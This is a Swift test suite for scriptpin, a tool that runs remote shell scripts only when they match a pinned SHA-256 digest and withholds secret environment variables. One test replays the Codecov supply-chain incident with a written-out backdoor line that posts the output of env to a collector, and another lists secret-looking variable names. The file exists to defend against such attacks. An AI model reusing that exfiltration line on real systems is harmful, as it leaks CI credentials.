import Foundation
import Testing
@testable import ScriptPinKit

@Suite("scriptpin run against a real HTTPS server")
struct RunCommandTests {
    let server: HTTPSFixture
    let work: Workspace

    init() throws {
        server = try HTTPSFixture()
        work = Workspace(server: server)
    }

    @Test("A pinned script runs with its arguments, by name and by URL; stdin is inherited")
    func runsPinnedScript() {
        let script = work.markerScript("read line; echo \"args=$* line=$line\"")
        server.serve("hello.sh", script)
        work.pin("hello", url: server.url("files/hello.sh"), content: script)
        let byName = work.scriptpin(["run", "hello", "--", "one", "two"], input: Data("typed\n".utf8))
        #expect(byName.status == 0)
        #expect(byName.stdout == "args=one two line=typed\n")
        #expect(work.markerExists)
        let byURL = work.scriptpin(["run", server.url("files/hello.sh"), "--", "x"], input: Data("y\n".utf8))
        #expect(byURL.stdout == "args=x line=y\n")
        #expect(server.requests.allSatisfy { $0.contains(" - scriptpin/0.1.0") }, "no Accept-Encoding, scriptpin's User-Agent")
    }

    @Test("hash URL prints the digest of exactly the bytes served, trusting the CA from --ca-file or SSL_CERT_FILE")
    func hashURL() {
        let script = "#!/bin/sh\necho hashed\n"
        server.serve("h.sh", script)
        let url = server.url("files/h.sh")
        let viaEnvironment = work.scriptpin(["hash", url])
        #expect(viaEnvironment.stdout == "\(sha256Hex(script))  \(url)\n")
        var environment = work.environment()
        environment["SSL_CERT_FILE"] = nil
        let viaOption = work.scriptpin(["hash", "--ca-file", server.caFile, url], environment: environment)
        #expect(viaOption.stdout == viaEnvironment.stdout)
        let untrusted = work.scriptpin(["hash", url], environment: environment)
        #expect(untrusted.status == 3)
        #expect(untrusted.stderr.contains("TLS verification failed"))
    }

    @Test("The script's status passes through; a signal N gives 128+N")
    func exitStatus() {
        for (name, body, expected) in [("seven", "exit 7", Int32(7)), ("killed", "kill -TERM $$", Int32(143))] {
            let script = "#!/bin/sh\n\(body)\n"
            server.serve(name, script)
            work.pin(name, url: server.url("files/\(name)"), content: script)
            #expect(work.scriptpin(["run", name]).status == expected, "\(name)")
        }
    }

    @Test("The body runs from a sealed memfd as /dev/fd/3; nothing is written to disk, no other descriptor leaks")
    func memfdExecution() throws {
        let script = "echo \"$0\"; for f in /proc/$$/fd/*; do readlink \"$f\"; done; exit 0\n"
        server.serve("self.sh", script)
        work.pin("self", url: server.url("files/self.sh"), content: script)
        let scratch = TemporaryDirectory()
        let result = work.scriptpin(["run", "self", "--interpreter", "sh"], environment: work.environment(["TMPDIR": scratch.path]))
        let lines = result.stdout.split(separator: "\n")
        #expect(result.status == 0)
        #expect(lines.first == "/dev/fd/3")
        let targets = lines.dropFirst()
        #expect(targets.contains { $0.hasPrefix("/memfd:scriptpin") })
        #expect(targets.allSatisfy { $0.hasPrefix("/memfd:scriptpin") || $0.hasPrefix("pipe:") || $0 == "/dev/null" },
                "only the standard streams and the script: \(result.stdout)")
        #expect(try FileManager.default.contentsOfDirectory(atPath: scratch.path).isEmpty)
    }

    @Test("--print writes exactly the verified bytes, even when they are not UTF-8 and span many read chunks")
    func printsBytes() throws {
        var generator = SeededGenerator(seed: 5)
        let body = Data("#!/bin/sh\n".utf8) + Data(generator.bytes(600_000)) + Data("\u{e9}\n".utf8)
        server.root.write("files/print.sh", body)
        let digest = ProcessRunner.run("sha256sum", [server.root.url("files/print.sh")], in: work.path).stdout.prefix(64)
        work.directory.write("known-hashes/print.pin", "url \(server.url("files/print.sh"))\nsha256 \(digest)\n")
        let result = work.scriptpin(["run", "print", "--print"])
        #expect(result.status == 0)
        #expect(result.stdoutData == body)
        #expect(!work.markerExists)
    }

    @Test("The interpreter is --interpreter, else the pin's, else the #! line, else sh")
    func interpreterChoice() {
        let script = "#!/usr/bin/env bash\nif [ -n \"$BASH_VERSION\" ]; then echo bash; else echo other; fi\n"
        server.serve("which.sh", script)
        work.pin("which", url: server.url("files/which.sh"), content: script)
        #expect(work.scriptpin(["run", "which"]).stdout == "bash\n")
        #expect(work.scriptpin(["run", "which", "--interpreter", "sh"]).stdout == "other\n")
        work.pin("which", url: server.url("files/which.sh"), content: script, extra: "interpreter dash\n")
        #expect(work.scriptpin(["run", "which"]).stdout == "other\n")
        let plain = "echo \"${BASH_VERSION:-plain sh}\"\n"
        server.serve("plain.sh", plain)
        work.pin("plain", url: server.url("files/plain.sh"), content: plain)
        #expect(work.scriptpin(["run", "plain"]).stdout == "plain sh\n")
    }

    @Test("An interpreter that is missing exits 127, one that cannot be executed 126")
    func interpreterFailures() {
        let script = work.markerScript()
        server.serve("i.sh", script)
        work.pin("i", url: server.url("files/i.sh"), content: script)
        let missing = work.scriptpin(["run", "i", "--interpreter", "no-such-shell"])
        #expect(missing.status == 127)
        #expect(missing.stderr.contains("Error: interpreter 'no-such-shell' was not found in PATH"))
        let notExecutable = work.scriptpin(["run", "i", "--interpreter", "/etc/hostname"])
        #expect(notExecutable.status == 126)
        #expect(!work.markerExists)
    }

    @Test("An unpinned URL is refused with the digest seen and the add command")
    func unpinnedURL() {
        let script = work.markerScript()
        server.serve("new-tool.sh", script)
        let url = server.url("files/new-tool.sh")
        let result = work.scriptpin(["run", url])
        #expect(result.status == 125)
        #expect(result.stderr == "Error: \(url) is not pinned; it served sha256:\(sha256Hex(script)). Review it, then pin it with: scriptpin add new-tool \(url)\n")
        #expect(!work.markerExists)
    }

    @Test("--sha256 pins ad hoc without a manifest; a wrong one refuses")
    func adHocPins() {
        let script = work.markerScript()
        server.serve("adhoc.sh", script)
        let bare = TemporaryDirectory()
        var environment = work.environment()
        environment["HOME"] = bare.path
        let url = server.url("files/adhoc.sh")
        let wrong = ProcessRunner.scriptpin(["run", url, "--sha256", String(repeating: "ab", count: 32)], in: bare.path, environment: environment)
        #expect(wrong.status == 125)
        #expect(!work.markerExists)
        let right = ProcessRunner.scriptpin(["run", url, "--sha256", sha256Hex(script)], in: bare.path, environment: environment)
        #expect(right.status == 0)
        #expect(work.markerExists)
    }

    @Test("Bad input exits 125 with one clear line and fetches nothing", arguments: [
        (["run", "http://127.0.0.1/x.sh"], "Error: 'http://127.0.0.1/x.sh' uses http; only https URLs are accepted, so the body cannot be changed in transit"),
        (["run", "nosuchpin"], "Error: no pin named 'nosuchpin' in known-hashes; `scriptpin verify` lists the pins, `scriptpin add nosuchpin URL` creates one"),
        (["run", "https://127.0.0.1/x", "--sha256", "xyz"], "Error: --sha256 value 1 is not a SHA-256 digest; give 64 hex digits as `scriptpin hash` prints them"),
        (["run", "nosuchpin", "--sha256"], "Error: --sha256 needs a value: --sha256 <hex>"),
        (["run"], "Error: run needs a pin name, an https URL or a script path"),
        (["run", "a", "b"], "Error: run takes one target, but argument 3 is a second one; arguments for the script go after --: scriptpin run TARGET -- ARGS"),
    ])
    func badInput(arguments: [String], expected: String) {
        let result = work.scriptpin(arguments)
        #expect(result.status == 125)
        #expect(result.stderr.hasPrefix(expected + "\n"), "\(result.stderr)")
        #expect(server.requests.isEmpty)
    }

    @Test("A pin without a url makes the manifest invalid: 125, nothing fetched")
    func pinWithoutURL() {
        work.directory.write("known-hashes/broken.pin", "sha256 \(String(repeating: "0", count: 64))\n")
        let result = work.scriptpin(["run", "broken"])
        #expect(result.status == 125)
        #expect(result.stderr == "Error: known-hashes/broken.pin: error: no 'url' line; a pin needs the https URL it pins\n")
        #expect(server.requests.isEmpty)
    }

    @Test("Hostile upstreams: nothing runs and the exit code is the documented one", arguments: [
        ("redirect-http/payload.sh", Int32(124), "redirected to a non-https location"),
        ("loop", 124, "redirected more than 5 times"),
        ("endless", 124, "sent more than 1048576 bytes"),
        ("huge-length", 124, "sent more than 1048576 bytes"),
        ("slow", 124, "did not finish within 3 s"),
        ("truncated", 124, "the connection to"),
        ("status/404/payload.sh", 124, "answered HTTP 404; only 200 is accepted"),
        ("status/500/payload.sh", 124, "answered HTTP 500; only 200 is accepted"),
        ("gzip/payload.sh", 125, "does not match its pin"),
        ("random", 125, "does not match its pin"),
    ])
    func hostileUpstreams(path: String, expectedStatus: Int32, message: String) {
        let script = work.markerScript()
        server.serve("payload.sh", script)
        let url = server.url(path)
        work.pin("hostile", url: url, content: path == "random" ? "echo 0000\n" : script, extra: "max-size 1048576\n")
        let result = work.scriptpin(["run", "hostile", "--timeout", "3"])
        #expect(result.status == expectedStatus)
        #expect(result.stderr.contains(message), "\(result.stderr)")
        #expect(!work.markerExists)
    }

    @Test("Untrusted certificates and wrong host names fail TLS verification (124)")
    func tlsFailures() {
        let script = work.markerScript()
        server.serve("payload.sh", script)
        for port in [server.untrustedPort, server.wrongHostPort] {
            work.pin("tls", url: server.url("files/payload.sh", port: port), content: script)
            let result = work.scriptpin(["run", "tls"])
            #expect(result.status == 124)
            #expect(result.stderr.contains("TLS verification failed for \(server.url("files/payload.sh", port: port))"))
        }
        #expect(!work.markerExists)
    }

    @Test("Transient failures are retried twice: 503 twice then 200 runs, three times fails; SCRIPTPIN_RETRY_DELAY_MS must be a number of milliseconds")
    func retries() {
        let script = work.markerScript()
        server.serve("payload.sh", script)
        work.pin("flaky", url: server.url("flaky/2/payload.sh"), content: script)
        #expect(work.scriptpin(["run", "flaky"]).status == 0)
        #expect(server.requests.filter { $0.contains("/flaky/2/") }.count == 3)
        // Another body, so that the stored copy of the first cannot stand in for it.
        let second = work.markerScript("echo second")
        server.serve("second.sh", second)
        try? FileManager.default.removeItem(atPath: work.marker)
        work.pin("flaky", url: server.url("flaky/3/second.sh"), content: second)
        let result = work.scriptpin(["run", "flaky"])
        #expect(result.status == 124)
        #expect(!work.markerExists)
        let fetched = server.requests.count
        let unusable = work.scriptpin(["run", "flaky"], environment: work.environment([FetchOptions.retryDelayVariable: "soon"]))
        #expect(unusable.status == 125)
        #expect(unusable.stderr == "Error: SCRIPTPIN_RETRY_DELAY_MS is set, but not to a whole number of milliseconds from 0 to 20000; set it to one, or unset it\n")
        #expect(server.requests.count == fetched, "nothing was fetched")
    }

    @Test("Proxies come from https_proxy, and no_proxy exempts a host")
    func proxies() {
        let script = work.markerScript()
        server.serve("proxied.sh", script)
        work.pin("proxied", url: server.url("files/proxied.sh"), content: script)
        // A proxy on a port nobody listens on: the fetch must try it, and fail.
        let viaProxy = work.scriptpin(["run", "proxied"], environment: work.environment(["https_proxy": "http://127.0.0.1:9"]))
        #expect(viaProxy.status == 124)
        #expect(!work.markerExists)
        let exempt = work.scriptpin(["run", "proxied"], environment: work.environment(["https_proxy": "http://127.0.0.1:9", "no_proxy": "127.0.0.1"]))
        #expect(exempt.status == 0)
        #expect(work.markerExists)
    }

    @Test("Credentials and query strings never appear in messages")
    func redaction() {
        let result = work.scriptpin(["run", "https://user:hunter2@127.0.0.1:\(server.trustedPort)\(server.path("files/none"))?token=abc123", "--sha256", String(repeating: "ab", count: 32)])
        #expect(result.status == 124)
        #expect(!result.stderr.contains("hunter2"))
        #expect(!result.stderr.contains("abc123"))
        #expect(result.stderr.contains("https://REDACTED@127.0.0.1:\(server.trustedPort)\(server.path("files/none"))?REDACTED"))
    }

    @Test("The Codecov incident, replayed: a tampered uploader is refused and posts nothing; a compromised pin leaks no secret")
    func codecovReplay() throws {
        let uploader = "#!/bin/bash\necho 'uploading coverage'\n"
        let backdoor = "curl -sm 5 -d \"$(env)\" \(server.collectorURL("upload")) >/dev/null\n"
        server.serve("codecov", uploader)
        work.pin("codecov", url: server.url("files/codecov"), content: uploader, extra: "env CODECOV_TOKEN\n")
        let secrets = ["GITHUB_TOKEN": "ghp_supersecretvalue", "AWS_SECRET_ACCESS_KEY": "aws-secret-value",
                       "NPM_TOKEN": "npm-secret-value", "CODECOV_TOKEN": "codecov-allowed-value", "DEPLOY_KEY": "deploy-secret"]
        let environment = work.environment(secrets)
        #expect(work.scriptpin(["run", "codecov"], environment: environment).stdout == "uploading coverage\n")

        let tampered = uploader + backdoor
        server.serve("codecov", tampered)
        let refused = work.scriptpin(["run", "codecov"], environment: environment)
        #expect(refused.status == 125)
        #expect(refused.stdout == "")
        #expect(refused.stderr.contains("does not match its pin"))
        #expect(server.collected.isEmpty)

        work.pin("codecov", url: server.url("files/codecov"), content: tampered, extra: "env CODECOV_TOKEN\n")
        let compromised = work.scriptpin(["run", "codecov"], environment: environment)
        #expect(compromised.status == 0)
        let posted = server.collected
        #expect(posted.contains("PATH="), "the backdoor did post the environment")
        #expect(posted.contains("codecov-allowed-value"), "the pin's env line lets CODECOV_TOKEN through")
        for (name, value) in secrets where name != "CODECOV_TOKEN" {
            #expect(!posted.contains(value), "\(name) leaked")
            #expect(!compromised.stderr.contains(value))
        }
        let withheld = compromised.stderr.split(separator: ":", maxSplits: 2).last.map(String.init) ?? ""
        for name in ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "NPM_TOKEN", "DEPLOY_KEY"] {
            #expect(withheld.contains(name))
        }
        #expect(!withheld.contains("CODECOV_TOKEN"))
    }

    @Test("Environment modes: --allow-env, --clean-env and --keep-env")
    func environmentModes() {
        let script = "echo \"tok=${GITHUB_TOKEN:-} home=${HOME:+set} extra=${EXTRA_SETTING:-}\"\n"
        server.serve("env.sh", script)
        work.pin("env", url: server.url("files/env.sh"), content: script)
        let environment = work.environment(["GITHUB_TOKEN": "t0k", "EXTRA_SETTING": "on"])
        #expect(work.scriptpin(["run", "env"], environment: environment).stdout == "tok= home=set extra=on\n")
        // A CA bundle's path is public material: passed by default, dropped by --clean-env like any other variable.
        let bundle = "echo \"ca=${AWS_CA_BUNDLE:-}\"\n"
        server.serve("bundle.sh", bundle)
        work.pin("bundle", url: server.url("files/bundle.sh"), content: bundle)
        let withBundle = work.environment(["AWS_CA_BUNDLE": "/etc/ssl/corp.pem", "AWS_SECRET_ACCESS_KEY": "s3cr3t"])
        let passed = work.scriptpin(["run", "bundle"], environment: withBundle)
        #expect(passed.stdout == "ca=/etc/ssl/corp.pem\n")
        #expect(passed.stderr.contains("AWS_SECRET_ACCESS_KEY") && !passed.stderr.contains("AWS_CA_BUNDLE"), "\(passed.stderr)")
        #expect(work.scriptpin(["run", "bundle", "--clean-env"], environment: withBundle).stdout == "ca=\n")
        #expect(work.scriptpin(["run", "env", "--allow-env", "GITHUB_*"], environment: environment).stdout == "tok=t0k home=set extra=on\n")
        #expect(work.scriptpin(["run", "env", "--clean-env"], environment: environment).stdout == "tok= home=set extra=\n")
        #expect(work.scriptpin(["run", "env", "--clean-env", "--allow-env", "EXTRA_SETTING"], environment: environment).stdout == "tok= home=set extra=on\n")
        let kept = work.scriptpin(["run", "env", "--keep-env"], environment: environment)
        #expect(kept.stdout == "tok=t0k home=set extra=on\n")
        #expect(kept.stderr == Workspace.unrestrictedNotices)
    }

    @Test("Verified bodies are stored 0600 in 0700 directories; --offline and a down host use the stored copy")
    func contentStore() throws {
        let script = work.markerScript("echo stored")
        server.serve("cached.sh", script)
        work.pin("cached", url: server.url("files/cached.sh"), content: script)
        #expect(work.scriptpin(["run", "cached"]).status == 0)
        let entry = "\(work.cache)/sha256/\(sha256Hex(script))"
        let attributes = try FileManager.default.attributesOfItem(atPath: entry)
        #expect((attributes[.posixPermissions] as? Int) == 0o600)
        let directoryAttributes = try FileManager.default.attributesOfItem(atPath: "\(work.cache)/sha256")
        #expect((directoryAttributes[.posixPermissions] as? Int) == 0o700)

        // The host goes away: a port nobody listens on.
        work.pin("cached", url: "https://127.0.0.1:9/files/cached.sh", content: script)
        let offline = work.scriptpin(["run", "cached", "--offline"])
        #expect(offline.status == 0)
        #expect(offline.stdout == "stored\n")
        let fallback = work.scriptpin(["run", "cached"])
        #expect(fallback.status == 0)
        #expect(fallback.stderr.contains("running the stored copy of pin 'cached'"))

        try Data("echo tampered\n".utf8).write(to: URL(fileURLWithPath: entry))
        try? FileManager.default.removeItem(atPath: work.marker)
        let modified = work.scriptpin(["run", "cached", "--offline"])
        #expect(modified.status == 125)
        #expect(modified.stderr.contains("stored copy \(entry) was modified"))
        #expect(!work.markerExists)
    }

    @Test("Without a stored copy, an unreachable host exits 124")
    func unreachableWithoutStore() {
        work.pin("gone", url: "https://127.0.0.1:9/x.sh", content: "echo\n")
        let result = work.scriptpin(["run", "gone"])
        #expect(result.status == 124)
        #expect(result.stderr.hasPrefix("Error: cannot connect to https://127.0.0.1:9/x.sh"))
        #expect(work.scriptpin(["run", "gone", "--offline"]).status == 124)
    }

    @Test("A local script runs when it matches a pin, and is refused otherwise")
    func localScript() {
        let script = work.markerScript()
        work.directory.write("local.sh", script)
        work.pin("local", url: server.url("files/local.sh"), content: script)
        #expect(work.scriptpin(["run", "local.sh"]).status == 0)
        #expect(work.markerExists)
        work.directory.write("other.sh", script + "# changed\n")
        #expect(work.scriptpin(["run", "other.sh"]).status == 125)
    }

    @Test("SIGTERM sent to scriptpin reaches the script, confined or not", arguments: ["required", "off"])
    func signalForwarding(confine: String) throws {
        let script = "trap 'echo got-term > \"\(work.marker)\"; exit 3' TERM\necho ready\nwhile :; do sleep 0.05; done\n"
        server.serve("trap.sh", script)
        work.pin("trap", url: server.url("files/trap.sh"), content: script)
        let process = Process()
        process.executableURL = URL(fileURLWithPath: ProcessRunner.scriptpinPath)
        process.arguments = ["run", "trap", "--confine", confine]
        process.currentDirectoryURL = URL(fileURLWithPath: work.path)
        process.environment = work.environment()
        let output = Pipe()
        process.standardOutput = output
        try process.run()
        _ = output.fileHandleForReading.readData(ofLength: 6)
        kill(process.processIdentifier, SIGTERM)
        process.waitUntilExit()
        #expect(process.terminationStatus == 3)
        #expect(work.directory.read("marker") == "got-term\n")
    }
}

@Suite("Sealed images and the environment policy")
struct RunBuildingBlockTests {
    @Test("A sealed memfd refuses every write")
    func sealedMemfd() throws {
        let image = try ScriptImage.make()
        #expect(image.isMemoryBacked)
        let body = Array("echo sealed\n".utf8)
        try body.withUnsafeBytes { try image.append($0) }
        let digest = Digest(algorithm: .sha256, bytes: Array(try StreamingHasher(.sha256).finalizeAfter(body)))
        try image.seal(expecting: digest)
        #expect(image.hasAllSeals)
        let writer = open("/proc/self/fd/\(image.descriptorForChild!)", O_WRONLY)
        #expect(writer >= 0)
        defer { close(writer) }
        #expect(write(writer, "x", 1) == -1, "a sealed memfd refuses writes through any descriptor")
        #expect(errno == EPERM)
    }

    @Test("The private-file fallback re-hashes, runs, and is removed afterwards")
    func privateFileFallback() throws {
        let image = try ScriptImage.makePrivateFile()
        let path = image.executionPath
        let directory = (path as NSString).deletingLastPathComponent
        let attributes = try FileManager.default.attributesOfItem(atPath: directory)
        #expect((attributes[.posixPermissions] as? Int) == 0o700)
        let body = Array("exit 5\n".utf8)
        try body.withUnsafeBytes { try image.append($0) }
        let digest = Digest(algorithm: .sha256, bytes: Array(try StreamingHasher(.sha256).finalizeAfter(body)))
        let wrong = Digest(algorithm: .sha256, bytes: [UInt8](repeating: 0, count: 32))
        #expect(throws: ScriptPinError.self) { try image.seal(expecting: wrong) }
        try image.seal(expecting: digest)
        let termination = try launchScript(["sh", path], environment: [EnvironmentVariable(name: "PATH", value: "/usr/bin:/bin")], image: image)
        #expect(termination == .exited(5))
        _ = consume image
        #expect(!FileManager.default.fileExists(atPath: directory))
    }

    @Test("Secret-looking names are recognised; ordinary ones are not", arguments: [
        ("GITHUB_TOKEN", true), ("NPM_TOKEN", true), ("AWS_ACCESS_KEY_ID", true), ("AWS_REGION", true),
        ("AZURE_CLIENT_SECRET", true), ("GOOGLE_APPLICATION_CREDENTIALS", true), ("GCP_PROJECT", true),
        ("ACTIONS_RUNTIME_TOKEN", true), ("ACTIONS_ID_TOKEN_REQUEST_URL", true), ("DB_PASSWORD", true),
        ("MYSQL_PASSWD", true), ("GPG_PASSPHRASE", true), ("STRIPE_API_KEY", true), ("DEPLOY_KEY", true),
        ("SIGNING_PRIVATE_KEY_PEM", true), ("SENTRY_DSN", true), ("CODECOV_TOKEN", true), ("SSH_AUTH_SOCK", true),
        ("DATABASE_URL", true), ("VAULT_ADDR", true),
        ("PATH", false), ("HOME", false), ("GITHUB_SHA", false), ("GITHUB_REF", false), ("CI", false),
        ("LANG", false), ("KEYBOARD_LAYOUT", false), ("RUNNER_OS", false), ("TERM", false),
        ("AWS_CA_BUNDLE", false), ("REQUESTS_CA_BUNDLE", false), ("NODE_EXTRA_CA_CERTS_FILE", false), ("SSL_CERT_FILE", false),
        ("SSL_CERT_DIR", false), ("GIT_SSL_CA_PATH", false), ("VAULT_SECRET_CA_BUNDLE", true),
    ])
    func secretNames(name: String, secret: Bool) {
        #expect(EnvironmentPolicy.looksSecret(name) == secret)
    }

    @Test("Allowed patterns let named secrets through; clean mode keeps only the base")
    func policyModes() {
        let variables = [("PATH", "/bin"), ("GITHUB_TOKEN", "t"), ("LC_ALL", "C"), ("EXTRA", "e")].map(EnvironmentVariable.init)
        let allowed = EnvironmentPolicy(mode: .withholdSecrets, allowed: ["GITHUB_*"]).apply(to: variables)
        #expect(allowed.withheld.isEmpty)
        let clean = EnvironmentPolicy(mode: .clean).apply(to: variables)
        #expect(clean.passed.map(\.name) == ["PATH", "LC_ALL"])
        #expect(clean.withheld == ["GITHUB_TOKEN", "EXTRA"])
    }
}

extension StreamingHasher {
    func finalizeAfter(_ bytes: [UInt8]) throws -> [UInt8] {
        try update(bytes)
        return try finalize().bytes
    }
}
